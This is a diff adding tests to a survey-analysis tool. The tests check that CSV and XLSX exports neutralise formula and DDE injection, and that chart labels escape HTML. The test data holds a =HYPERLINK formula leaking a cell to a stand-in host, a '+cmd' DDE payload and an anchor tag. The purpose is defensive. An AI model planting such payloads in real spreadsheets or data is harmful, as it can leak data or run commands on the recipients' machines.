@@ -15,6 +15,7 @@ import { WEIGHTING_VARIABLES } from "../src/codebook";
 import { asReplicateDesign, svyciprop } from "../src/survey";
 import { askResult } from "../src/ask/compute";
 import { csvDanishText, csvText, jsonText, xlsxBuffer, type ExcelModule } from "../src/ask/export";
+import { askFigure } from "../src/ask/chart";
 import { parseAskArgs, specFromQuery, specToCommand, specToQuery } from "../src/ask/parse";
 import { BROWSER_NUMBER_TOLERANCE, CHECK_SPECS, compareJson } from "../src/checks/ask-page";
 import { ROW_COLUMNS, type AskResult } from "../src/ask/result";
@@ -301,6 +302,48 @@ describe("formats", () => {
       expect(r[ROW_COLUMNS.indexOf("estimate")] as number).toBeCloseTo(result.rows[k].estimate as number, 4);
       expect(r[ROW_COLUMNS.indexOf("option")]).toBe(result.rows[k].option);
     });
+  });
+});
+
+describe("hostile labels: exports that cannot run, charts without links", () => {
+  const hostile = [
+    { label: '=HYPERLINK("http://x.invalid/?leak="&A1,"Klik")', codes: [1, 2] },
+    { label: "+cmd|' /C calc'!A0", codes: [3] },
+    { label: '<a href="https://x.invalid">Klik</a>', codes: [4, 5] },
+  ];
+  let result: AskResult;
+  beforeAll(() => {
+    result = askResult(loadDataset(), normalizeSpec({ question: "ai_brug", answers: hostile, by: "stoerrelse" }));
+  });
+  it("csv and csv-da: every text cell starting with =, +, - or @ starts with an apostrophe", () => {
+    for (const [text, sep] of [
+      [csvText(result), ","],
+      [csvDanishText(result).slice(1), ";"],
+    ] as const) {
+      const cells = readDelimited(text, sep).flat();
+      expect(cells.some((c) => c.startsWith("'=HYPERLINK("))).toBe(true);
+      expect(cells.some((c) => c.startsWith("'+cmd"))).toBe(true);
+      expect(cells.filter((c) => /^[=+@]/.test(c))).toEqual([]);
+      expect(cells.filter((c) => /^-/.test(c) && !/^-\d/.test(c))).toEqual([]);
+    }
+  });
+  it("xlsx: no string cell starts with =, +, - or @, and no cell is a formula", async () => {
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load(Buffer.from(await xlsxBuffer(ExcelJS as unknown as ExcelModule, result)));
+    const strings: string[] = [];
+    book.worksheets[0].eachRow((row) =>
+      row.eachCell((cell) => {
+        expect(cell.formula).toBeUndefined();
+        if (typeof cell.value === "string") strings.push(cell.value);
+      }),
+    );
+    expect(strings.some((c) => c.startsWith("'=HYPERLINK("))).toBe(true);
+    expect(strings.filter((c) => /^[=+@]/.test(c) || /^-\D/.test(c))).toEqual([]);
+  });
+  it("the chart's labels are plain text: no tag reaches Plotly", () => {
+    const figure = JSON.stringify(askFigure(result));
+    expect(figure).toContain("&lt;a href=");
+    expect(figure).not.toMatch(/<a[ >]/);
   });
 });
 
